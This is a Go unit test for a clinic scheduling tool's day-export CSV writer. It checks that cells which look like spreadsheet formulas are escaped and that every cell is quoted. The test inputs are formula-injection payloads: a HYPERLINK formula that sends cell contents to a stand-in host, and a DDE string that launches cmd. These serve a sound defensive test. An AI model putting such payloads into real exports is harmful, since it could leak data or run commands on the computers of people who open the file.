package prep

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

// Cells from Epic or an imported file that a spreadsheet would run as a
// formula come out inert: a leading single quote, and every cell quoted.
func TestDayCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"}
	d := Day{Date: "2026-11-24"}
	for _, e := range evil {
		d.Rows = append(d.Rows, Row{Time: time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC), PatientName: e, MRN: e, VisitType: e, Provider: e, Status: "booked"})
	}
	d.Rows = append(d.Rows, Row{Time: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC), PatientName: `Ann "Nan" O'Neil, Jr`, VisitType: "Annual"})
	var b bytes.Buffer
	if err := WriteDayCSV(&b, d); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\r\n"), "\r\n") {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			t.Fatalf("a cell is not quoted: %q", line)
		}
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(d.Rows)+1 {
		t.Fatalf("%d records for %d rows", len(recs), len(d.Rows))
	}
	for i, e := range evil {
		rec := recs[i+1]
		for _, col := range []int{2, 3, 6, 7} {
			if rec[col] != "'"+e {
				t.Errorf("row %d column %d = %q, want %q", i+1, col, rec[col], "'"+e)
			}
		}
	}
	if last := recs[len(recs)-1]; last[2] != `Ann "Nan" O'Neil, Jr` || last[6] != "Annual" {
		t.Fatalf("a harmless cell was changed: %q", last)
	}
}
